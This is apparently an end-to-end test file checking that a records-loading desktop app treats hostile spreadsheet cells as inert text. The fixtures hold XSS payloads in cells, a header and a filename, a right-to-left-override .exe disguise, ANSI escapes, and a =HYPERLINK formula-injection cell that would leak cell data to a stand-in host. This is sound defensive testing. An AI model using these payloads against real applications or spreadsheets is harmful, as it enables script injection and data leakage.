import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { nevadaHeader } from '../../electron/testing/invent/headers.ts'
import { nevadaRow } from '../../electron/testing/invent/numbered.ts'
import { writeList } from '../files.ts'
import { expect, test } from '../fixtures.ts'
import { loadPage } from '../pages/loadPage.ts'
import { resultsPage } from '../pages/resultsPage.ts'
import { runsPage } from '../pages/runsPage.ts'

test.use({ journey: 'hostile cells' })
test.describe.configure({ mode: 'serial', timeout: 60_000 })

const image = '<img src=x onerror="window.pwned=1">'
const link = 'javascript:window.pwned=1'
const formula = '=HYPERLINK("https://example.com/?"&A1)'
const svg = '<svg onload=window.pwned=1>'
/** Shows the end first: photo‮gpj.exe */
const reversed = 'photo\u202Egpj.exe'
const colored = '\u001B[31mRED\u001B[0m\u0007'
/** As people see the two. */
const reversedShown = 'photo‹U+202E›gpj.exe'
const coloredShown = '‹U+001B›[31mRED‹U+001B›[0m‹U+0007›'
/** And as they are loaded: what can't be seen is no content (DATA.md, "What is a record"). */
const reversedLoaded = 'photogpj.exe'
const coloredLoaded = '[31mRED[0m'
/** Also a file's name may be one. */
const fileName = '<img src=x onerror=window.pwned=2>.csv'
const script = '<script>window.pwned=4</script>'
const header = '<b onclick=window.pwned=3>Notes</b>'

const rows = [
  nevadaRow(1, { Name: image }),
  nevadaRow(2, { Name: link }),
  nevadaRow(3, { Name: formula }),
  nevadaRow(4, { Name: reversed }),
  nevadaRow(5, { Name: colored }),
  nevadaRow(6, { Name: '@SUM(1+1)', Phone: '-2+3', 'Expiration Date': svg }),
  nevadaRow(7, { 'Disciplinary Action': 'A'.repeat(1_000_000), [header]: script }),
  nevadaRow(8, { Name: image, 'Credential Number': '' }),
  nevadaRow(9, { 'Disciplinary Action': 'B'.repeat(1_100_000) }),
]

const heard: string[] = []

test.beforeAll(({ app }) => {
  const { page } = app
  const own = new URL(page.url()).origin
  page.on('dialog', (dialog) => {
    heard.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('pageerror', (error) => heard.push(`error ${error.message}`))
  page.on('console', (message) => message.type() === 'error' && heard.push(`console ${message.text()}`))
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (url.origin !== own && url.protocol !== 'data:') heard.push(`request ${request.url()}`)
    if (/\/x$/.test(url.pathname)) heard.push(`request ${request.url()}`)
  })
})

test.afterEach(async ({ page }) => {
  expect(heard).toEqual([])
  expect(await page.evaluate(() => window.pwned)).toBeUndefined()
  expect(await page.locator('img, svg[onload], b[onclick], main script').count()).toBe(0)
})

test('what a cell holds is shown as text before it is loaded', async ({ app, page, lists }) => {
  const load = loadPage(app)
  const path = writeList(lists, fileName, [...nevadaHeader, header], rows)
  await load.addFiles([path])
  await expect(load.file(fileName)).toContainText('Nevada')
  await expect(load.file(fileName)).toContainText(header)
  await load.setDate('20 Nov 2026')
  await load.continueToMapping()
  await expect(load.columns).toContainText(image)
  await expect(load.columns).toContainText(header)
  await load.continueToReview()
  await expect(load.counts).toContainText('9 records · 7 will load · 2 rejected')
  for (const view of ['File says', 'Becomes'] as const) {
    await load.showRecords(view)
    const grid = page.getByRole('grid', {
      name: `Records of ${fileName}, as ${view === 'Becomes' ? 'they become' : 'the file says'}`,
    })
    const unseen = view === 'File says' ? [reversedShown, coloredShown] : [reversedLoaded, coloredLoaded]
    for (const text of [image, link, formula, ...unseen, '@SUM(1+1)']) {
      await expect(grid).toContainText(text)
    }
    await grid.press('End')
    await expect(grid).toContainText(script)
    // a megabyte is cut for display
    await load.goToColumn('Disciplinary action')
    await expect(grid).toContainText('AAAAAAAA')
    expect((await grid.textContent())?.length).toBeLessThan(20_000)
  }
  const problems = load.record
  await load.goToRecord(6)
  await expect(problems).toContainText(svg)
  await load.goToRecord(8)
  await expect(problems).toContainText('Rejected')
})

test('and after it is loaded: in the tables, the issues and the files', async ({ app, page }) => {
  const load = loadPage(app)
  const results = resultsPage(app)
  const runs = runsPage(app)
  await load.continueToLoad()
  await load.load()
  await expect(results.equation).toContainText(/9\s*read\s*=\s*7\s*loaded\s*\+\s*2\s*rejected/)
  const closed = results.checks.getByRole('button', { expanded: false })
  for (let left = await closed.count(); left > 0; left -= 1) await closed.first().click()
  await results.publish()
  await expect(results.outcome).toBeVisible()
  await runs.openList()
  await runs.open(1)
  await runs.showTab('Tables')
  for (const text of [image, link, formula, reversedLoaded, coloredLoaded]) {
    await expect(runs.rows).toContainText(text)
  }
  await runs.goToColumn('attributes')
  await expect(runs.rows).toContainText('AAAAAAAA')
  expect((await runs.rows.textContent())?.length).toBeLessThan(20_000)
  await runs.showTab('Issues')
  await expect(runs.rows).toContainText(svg)
  await expect(runs.rows).toContainText(fileName)
  await runs.showTab('Files')
  await expect(page.getByRole('region', { name: 'Files of the run' })).toContainText(header)
})

test('what is exported runs in no spreadsheet', async ({ app, lists }) => {
  const runs = runsPage(app)
  await runs.showTab('Tables')
  const tables = join(lists, 'facilities.csv')
  await runs.exportTable(tables)
  await expect(runs.notices).toContainText('7 rows written to facilities.csv.')
  const exported = readFileSync(tables, 'utf8')
  expect(exported).toContain(`"'=HYPERLINK(""https://example.com/?""&A1)"`)
  expect(exported).toContain(`,'@SUM(1+1),`)
  expect(exported).toContain('<img src=x onerror=""window.pwned=1"">')
  await runs.showTab('Issues')
  const warnings = join(lists, 'warnings.csv')
  await runs.exportWarnings(warnings)
  await expect(runs.notices).toContainText('written to warnings.csv.')
  const cells = readFileSync(warnings, 'utf8')
  expect(cells).toContain(`'-2+3`)
  expect(cells).not.toMatch(/(^|[,"\n])[=@]/)
})
